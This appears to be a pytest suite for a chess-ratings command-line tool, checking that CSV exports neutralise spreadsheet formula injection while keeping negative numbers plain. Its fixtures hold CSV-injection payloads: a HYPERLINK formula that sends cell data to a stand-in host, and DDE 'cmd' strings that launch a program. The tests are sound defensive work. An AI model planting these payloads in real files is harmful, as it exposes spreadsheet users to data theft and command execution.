"""CSV formula injection (OWASP "CSV Injection"): every CSV the product writes neutralises a
cell that a spreadsheet would run as a formula, and leaves plain numbers alone."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from ratings.cli import cli
from ratings.io.csv_out import neutralise, write_csv

HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, PLUS, AT, MINUS]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (PLUS, "'" + PLUS),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("+", "'+"),
        ("-12\n", "'-12\n"),
        ("-1-1", "'-1-1"),
        ("-0x1A", "'-0x1A"),
        ("-inf", "'-inf"),
        ("-\u0661\u0662", "'-\u0661\u0662"),  # Arabic-Indic digits are no plain number
        ("- 12", "'- 12"),
        # plain numbers stay numbers
        ("-12", "-12"),
        ("-0.25", "-0.25"),
        ("+7", "+7"),
        ("-.5", "-.5"),
        ("-1.5e3", "-1.5e3"),
        ("12", "12"),
        # everything else is left alone
        ("", ""),
        ("Smith, Ann", "Smith, Ann"),
        ("O'Hara, Cy", "O'Hara, Cy"),
        ("a=b", "a=b"),
        (" =1", " =1"),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_write_csv_neutralises_every_cell_header_included() -> None:
    out = io.StringIO()
    write_csv(out, [["=name", "change"], [HYPERLINK, -12], [MINUS, "-0.25"], [None, 3]])
    assert out.getvalue() == (
        f'\'=name,change\n"\'=HYPERLINK(""http://x/?d=""&A1,""click"")",-12\n\'{MINUS},-0.25\n,3\n'
    )


# --- every command that writes CSV ------------------------------------------------------


def run(db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture(scope="module")
def club(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The four payloads as player names (three with ratings), and games between them."""
    db = tmp_path_factory.mktemp("csv_injection") / "club.db"
    run(db, "init")
    run(db, "player", "add", "--rating", "1800", "--", HYPERLINK)
    run(db, "player", "add", "--rating", "1700", "--", PLUS)
    run(db, "player", "add", "--", AT)
    run(db, "player", "add", "--rating", "1600", "--", MINUS)
    run(db, "game", "add", "1", "2", "0-1", "--date", "2026-01-10")
    run(db, "game", "add", "4", "1", "1-0", "--date", "2026-01-11")
    run(db, "game", "add", "3", "4", "1-0", "--date", "2026-01-12")
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check_names_neutralised(rows: list[list[str]], column: int) -> None:
    names = sorted(row[column] for row in rows[1:])
    assert names == sorted("'" + p for p in PAYLOADS)


@pytest.mark.parametrize("command", ["preview", "list"])
def test_rating_lists(club: Path, tmp_path: Path, command: str) -> None:
    db = tmp_path / "club.db"
    db.write_bytes(club.read_bytes())
    if command == "list":
        run(db, "rate")
    rows = _cells(run(db, command, "--all", "--format", "csv"))
    assert rows[0][:7] == ["name", "fide_id", "federation", "title", "birth_year", "rating",
                           "change"]  # fmt: skip
    _check_names_neutralised(rows, 0)
    # an unrated player's change is blank (issue 11, item 13)
    changes = sorted(int(row[6]) for row in rows[1:] if row[6])
    assert changes[0] < 0  # a negative change is written as a plain number, unquoted
    assert [row[6] for row in rows[1:] if row[6].startswith("-")] == [
        str(c) for c in changes if c < 0
    ]


def test_history(club: Path, tmp_path: Path) -> None:
    db = tmp_path / "club.db"
    db.write_bytes(club.read_bytes())
    run(db, "rate")
    rows = _cells(run(db, "history", "1", "--format", "csv"))
    assert rows == [
        ["period", "rating_before", "rating", "change", "k_used", "period_games", "total_games",
         "score", "list_status"],
        # K 20 and no total: the prior game count is unknown (issue 12, item 1)
        ["2026-01", "1800", "1772", "-28", "20", "2", "", "0.0", "listed"],
    ]  # fmt: skip


def test_sql(club: Path) -> None:
    text = run(club, "sql", "SELECT name, -12 AS n, -0.25 AS x, '-2+3' AS s, 1 AS \"=h\" "
               "FROM players ORDER BY id", "--format", "csv")  # fmt: skip
    assert _cells(text) == [
        ["name", "n", "x", "s", "'=h"],
        *[["'" + p, "-12", "-0.25", "'-2+3", "1"] for p in PAYLOADS],
    ]
